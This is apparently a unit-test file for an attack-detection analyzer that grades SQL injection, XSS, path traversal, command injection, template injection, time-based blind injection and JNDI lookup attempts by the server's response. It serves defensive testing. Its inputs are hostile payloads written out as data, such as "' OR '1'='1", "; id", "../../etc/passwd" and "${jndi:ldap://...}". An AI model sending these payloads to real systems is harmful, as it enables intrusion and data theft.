// Unit tests of attack grading by the response (attempt, likely success by back-end signature, reflection or
// unusual size, unknown) and of the evidence text (masked, control characters stripped, rule id).
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { AttacksAnalyzer } from '../../../appliance/src/analyzers/attacks/attacks.analyzer.ts';
import { detect } from './attack.helpers.ts';
import { makeCall, makeTx, type TxSpec } from '../../fixtures/transaction.fixture.ts';
import type { Detection } from '../../../appliance/src/analyzers/call.context.ts';

const SQLI = `/items?id=${encodeURIComponent("1' OR '1'='1")}`;

test('attempt when refused or redirected; unknown without a response or without a sign of success', () => {
  const refused = detect({ target: SQLI, status: 403 })[0];
  assert.equal(refused.outcome, 'attempt');
  assert.equal(refused.severity, 'medium');
  assert.match(refused.evidence, /refused with 403/);
  assert.equal(detect({ target: SQLI, status: 302 })[0].outcome, 'attempt');
  assert.equal(detect({ target: SQLI, status: null })[0].outcome, 'unknown');
  const ok = detect({ target: SQLI, status: 200, responseBody: '{"items":[]}' })[0];
  assert.equal(ok.outcome, 'unknown');
  assert.equal(ok.severity, 'high');
  assert.equal(ok.category, 'attack');
});

test('likely success: back-end signatures of the injected family', () => {
  const sql = detect({ target: SQLI, status: 500, responseBody: 'SQLSTATE[42000]: Syntax error: 1064 You have an error in your SQL syntax' })[0];
  assert.equal(sql.outcome, 'likely_success');
  assert.equal(sql.severity, 'critical');
  assert.match(sql.evidence, /SQL error signature/);
  const passwd = detect({ target: '/dl?f=../../../../etc/passwd', status: 200, responseBody: 'root:x:0:0:root:/root:/bin/bash\ndaemon:x:1:1::' })[0];
  assert.equal(passwd.outcome, 'likely_success');
  const cmd = detect({ target: `/ping?h=${encodeURIComponent('1.1.1.1; id')}`, status: 200, responseBody: 'uid=33(www-data) gid=33(www-data) groups=33(www-data)' })[0];
  assert.equal(cmd.outcome, 'likely_success');
  const ssti = detect({ target: '/r?t=%7B%7B7*7%7D%7D', status: 200, responseBody: '<p>Hello 49</p>' })[0];
  assert.equal(ssti.outcome, 'likely_success');
  assert.equal(detect({ target: '/r?t=%7B%7B7*7%7D%7D', status: 200, responseBody: '<p>Hello {{7*7}}</p>' })[0].outcome, 'unknown');
  // a signature of another family does not count
  assert.equal(detect({ target: SQLI, status: 200, responseBody: 'root:x:0:0:root' })[0].outcome, 'unknown');
});

test('xss is likely successful only when the payload is reflected unescaped', () => {
  const target = `/s?q=${encodeURIComponent('<script>alert(1)</script>')}`;
  assert.equal(detect({ target, status: 200, responseType: 'text/html', responseBody: '<h1>Results for <script>alert(1)</script></h1>' })[0].outcome, 'likely_success');
  assert.equal(detect({ target, status: 200, responseType: 'text/html', responseBody: '<h1>Results for &lt;script&gt;alert(1)&lt;/script&gt;</h1>' })[0].outcome, 'unknown');
});

test('likely success by an unusually large response for the endpoint, after a baseline is learned', () => {
  const a = new AttacksAnalyzer({ sizeBaselineMinSamples: 20 });
  for (let i = 0; i < 30; i++) detect({ target: `/items?id=${i}`, status: 200, responseBody: '{"id":1,"name":"x' + 'y'.repeat(i % 5) + '"}' }, a, '/items');
  const big = detect({ target: SQLI, status: 200, responseBody: '[' + '{"id":1,"name":"someone"},'.repeat(500) + '{}]' }, a, '/items')[0];
  assert.equal(big.outcome, 'likely_success');
  assert.match(big.evidence, /unusual size/);
  const normal = detect({ target: SQLI, status: 200, responseBody: '{"id":1,"name":"xyy"}' }, a, '/items')[0];
  assert.equal(normal.outcome, 'unknown');
  const other = detect({ target: SQLI, status: 200, responseBody: '[' + '{"id":1},'.repeat(500) + '{}]' }, a, '/orders')[0];
  assert.equal(other.outcome, 'unknown', 'no baseline for this endpoint yet');
  const unmatched = detect({ target: SQLI, status: 200, responseBody: '[' + '{"id":1},'.repeat(500) + '{}]' }, a)[0];
  assert.equal(unmatched.outcome, 'unknown', 'no endpoint template: no baseline');
});

test('jndi keeps its severity when refused: the lookup happens when the request is logged', () => {
  const d = detect({ requestHeaders: [['User-Agent', '${jndi:ldap://x/a}']], status: 400 })[0];
  assert.equal(d.outcome, 'attempt');
  assert.equal(d.severity, 'high');
});

test('evidence: part, name, masked excerpt without control characters, rule id; secret fields not shown', () => {
  const d = detect({ target: `/a?comment=${encodeURIComponent("x' OR 1=1 -- mail bob.smith@example.com card 6222021234567890123\u0007\u202e")}` })[0];
  assert.match(d.evidence, /^sqli in query "comment": /);
  assert.match(d.evidence, /\(rule sqli\.[a-z_]+\)/);
  assert.ok(!d.evidence.includes('bob.smith'), d.evidence);
  assert.ok(!d.evidence.includes('6222021234567890123'), d.evidence);
  // eslint-disable-next-line no-control-regex
  assert.ok(!/[\u0000-\u001f\u202e]/.test(d.evidence), d.evidence);
  assert.match(d.evidence, /\*\*\*@example\.com/);
  const pw = detect({ method: 'POST', target: '/login', requestType: 'application/x-www-form-urlencoded', requestBody: `user=a&password=${encodeURIComponent("' OR 1=1 --")}` })[0];
  assert.match(pw.evidence, /form "password": <11 characters, not shown: secret field>/);
  const long = detect({ target: `/a?q=${encodeURIComponent('<script>' + 'a'.repeat(300) + '</script>')}` })[0];
  assert.ok(long.evidence.length < 260, `evidence bounded: ${long.evidence.length}`);
});

test('one detection per family per call; several families in one call', () => {
  const ds = detect({ target: `/a?x=${encodeURIComponent("1' OR '1'='1")}&y=${encodeURIComponent("' UNION SELECT 1--")}&z=${encodeURIComponent('<script>x</script>')}` });
  assert.deepEqual(ds.map((d) => d.type).sort(), ['sqli', 'xss']);
});

test('likely success by an unusually slow answer for the endpoint (time-based blind injection), not by a slow benign call', () => {
  const a = new AttacksAnalyzer({ sizeBaselineMinSamples: 20 });
  for (let i = 0; i < 30; i++) detect({ target: `/items?id=${i}`, status: 200, latencyUs: 80_000 + (i % 7) * 5_000, responseBody: '{"id":1}' }, a, '/items');
  const slow = detect({ target: `/items?id=${encodeURIComponent("1' AND SLEEP(5)-- ")}`, status: 200, latencyUs: 5_100_000, responseBody: '{"id":1}' }, a, '/items')[0];
  assert.equal(slow.type, 'sqli');
  assert.equal(slow.outcome, 'likely_success');
  assert.match(slow.evidence, /after 5\.1 s, unusual time for this endpoint \(mean 0\.1 s\)/);
  const quick = detect({ target: `/items?id=${encodeURIComponent("1' AND SLEEP(5)-- ")}`, status: 200, latencyUs: 95_000, responseBody: '{"id":1}' }, a, '/items')[0];
  assert.equal(quick.outcome, 'unknown');
  // xss is not confirmed by time; an endpoint without a baseline neither
  assert.equal(detect({ target: `/items?q=${encodeURIComponent('<script>alert(1)</script>')}`, status: 200, latencyUs: 9_000_000, responseBody: '{}' }, a, '/items')[0].outcome, 'unknown');
  assert.equal(detect({ target: `/other?id=${encodeURIComponent("1' AND SLEEP(5)-- ")}`, status: 200, latencyUs: 5_100_000, responseBody: '{}' }, a, '/other')[0].outcome, 'unknown');
});

test('size baselines follow the endpoint whether its object is shared or re-created, and are dropped when the table is full', () => {
  const a = new AttacksAnalyzer({ sizeBaselineMinSamples: 20, sizeBaselineEndpoints: 2 });
  const items = { key: 'api.example.com GET /items', host: 'api.example.com', method: 'GET', template: '/items', inSpec: false };
  const onItems = (spec: TxSpec, ep: typeof items = items): Detection[] => {
    const call = makeCall(makeTx(spec));
    call.endpoint = ep;
    a.onCall(call);
    return call.detections;
  };
  for (let i = 0; i < 30; i++) onItems({ target: `/items?id=${i}`, status: 200, responseBody: '{"id":1,"name":"x' + 'y'.repeat(i % 5) + '"}' });
  const big = { target: SQLI, status: 200, responseBody: '[' + '{"id":1,"name":"someone"},'.repeat(500) + '{}]' };
  assert.equal(onItems(big)[0].outcome, 'likely_success', 'shared object');
  assert.equal(onItems(big, { ...items })[0].outcome, 'likely_success', 'a new object for the same endpoint');
  detect({ target: '/a', status: 200 }, a, '/a');
  detect({ target: '/b', status: 200 }, a, '/b');
  assert.equal(onItems(big)[0].outcome, 'unknown', 'the third endpoint emptied the table: no baseline for /items any more');
});
